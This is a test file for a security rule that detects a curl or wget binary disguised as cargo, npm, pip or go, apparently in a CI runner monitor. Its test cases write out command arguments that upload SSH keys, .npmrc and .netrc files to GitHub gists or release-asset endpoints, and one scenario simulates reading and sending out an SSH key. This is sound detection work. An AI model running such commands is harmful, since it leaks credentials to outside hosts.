/**
 * curl's or wget's file upload under a download's name is no download (src/rules/copied-clients.ts): a renamed
 * curl installed where the real tool lives (`~/.cargo/bin/cargo`, which rustup installs) read as `cargo build`, a
 * download, and its few KiB posted to a gist were no push, its ssh key read the credential in use (review).
 */
import { describe, expect, it } from 'vitest';
import { correlatorConfigSchema } from '../../../src/correlate/config.js';
import { DestinationClassifier } from '../../../src/correlate/destinations.js';
import { recognizeProcess } from '../../../src/rules/index.js';
import { brief, run } from '../correlate/builder.js';
import { GITHUB_IP, runnerPod } from '../correlate/runner-job.js';

const classifier = new DestinationClassifier(correlatorConfigSchema.parse({}).destinations, 100);
const uploadTarget = (host: string, path: string) => classifier.isUploadTarget(host, path);
const kindOf = (binary: string, args: string) => {
  const r = recognizeProcess({ binary, args, parentBinary: null, parentArgs: null }, uploadTarget);
  return r === null ? null : r.kind === 'push' ? `push:${r.tool}` : r.kind;
};

describe('a file upload under a download name', () => {
  it.each([
    [
      '/home/runner/.cargo/bin/cargo',
      'build -T /root/.ssh/id_rsa https://uploads.github.com/repos/e/x/releases/1/assets',
    ],
    ['/home/x/bin/npm', 'ci -d @/root/.ssh/id_rsa https://api.github.com/gists'],
    ['/home/x/bin/npm', 'install --data-binary=@/root/.npmrc https://api.github.com/gists'],
    ['/usr/local/bin/pip', 'install -F f=@/root/.netrc https://api.github.com/gists'],
    ['/usr/local/go/bin/go', 'mod download --post-file=/root/.netrc https://api.github.com/gists'],
  ])('%s %s is a copied uploader', (binary, args) => {
    expect(kindOf(binary, args)).toMatch(/^push:(?:curl|wget)$/);
  });

  // The benign twins: the installers' own words, with URLs and `-d`.
  it.each([
    ['/usr/local/bin/pip', 'download -d ./wheels https://github.com/acme/lib/archive/v1.zip'],
    ['/usr/local/bin/pip', 'download -d @wheels https://github.com/acme/lib/archive/v1.zip'],
    ['/usr/local/bin/npm', 'install -d @acme/lib https://registry.npmjs.org/x/-/x-1.0.0.tgz'],
    ['/usr/local/bin/npm', 'ci -d'],
    ['/home/runner/.cargo/bin/cargo', 'build --release'],
    ['/usr/local/bin/pip', 'install -r requirements.txt -i https://pypi.org/simple'],
  ])('%s %s stays a download', (binary, args) => {
    expect(kindOf(binary, args)).toBe('download');
  });

  it('a renamed curl as ~/.cargo/bin/cargo build posting an ssh key to a gist is sensitive-read-then-push', () => {
    const { s, c, worker } = runnerPod('lib');
    const fake = s.exec(
      c,
      '/home/runner/.cargo/bin/cargo',
      'build -d @/home/runner/.ssh/id_ed25519 https://api.github.com/gists',
      {
        parent: worker,
      },
    );
    s.read(fake, '/home/runner/.ssh/id_ed25519', 411);
    s.connect(fake, GITHUB_IP, 443, { cookie: 'g' }).send(fake, GITHUB_IP, 443, 1_800, { cookie: 'g' });
    s.wait(300).exit(fake);
    expect(brief(run(s.events).alerts).map((a) => [a.rule, a.severity, a.tool])).toEqual([
      ['sensitive-read-then-push', 'high', 'curl'],
    ]);
  });
});
